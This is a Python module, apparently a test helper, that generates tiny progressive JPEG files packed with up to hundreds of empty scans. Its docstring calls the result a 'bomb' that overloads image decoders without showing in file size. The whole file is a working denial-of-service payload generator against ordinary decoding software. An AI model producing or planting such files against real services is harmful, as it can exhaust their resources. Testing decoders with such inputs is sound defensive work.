"""JPEG files of as many scans as one likes, each of a few bytes: a bomb that no size gives away."""

from __future__ import annotations

import struct

_LONGEST_RUN = 2**15 - 1  # blocks that one code can say to hold nothing
_FIRST_BIT = 13  # the highest bit of a coefficient that a scan may begin with


def _segment(marker, content):
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def _pad(bits):
    bits += "1" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")


def _count_blocks(width, height):
    return -(-width // 8) * -(-height // 8)


def _say_nothing(n_blocks):
    """Bits of a scan in which no block changes: `0` ends one block, `10` a run of blocks."""
    runs, rest = divmod(n_blocks, _LONGEST_RUN)
    return ("10" + "1" * 14) * runs + "0" * rest


def _scans():
    """Parameters of valid scans: of coefficient `first` to `last`, one bit more each time."""
    yield 0, 0, 0, 0  # the mean of each block
    for coefficient in range(1, 64):
        yield coefficient, coefficient, 0, _FIRST_BIT
    for bit in range(_FIRST_BIT, 0, -1):
        for coefficient in range(1, 64):
            yield coefficient, coefficient, bit, bit - 1


def make_jpeg_of_scans(n_scans, width=8, height=8):
    """Write a gray picture of any size, all of one gray, in up to 882 scans."""
    n_blocks = _count_blocks(width, height)
    parts = [
        b"\xff\xd8",
        _segment(0xDB, b"\0" + b"\1" * 64),
        _segment(0xC2, struct.pack(">BHHB3B", 8, height, width, 1, 1, 0x11, 0)),
        _segment(0xC4, b"\0" + bytes([1] + [0] * 15) + b"\0"),
        _segment(0xC4, b"\x10" + bytes([1, 1] + [0] * 14) + b"\0\xe0"),
    ]
    for _, (first, last, high, low) in zip(range(n_scans), _scans(), strict=False):
        parts.append(_segment(0xDA, bytes([1, 1, 0, first, last, high << 4 | low])))
        parts.append(_pad("0" * n_blocks if first == 0 else _say_nothing(n_blocks)))
    return b"".join((*parts, b"\xff\xd9"))
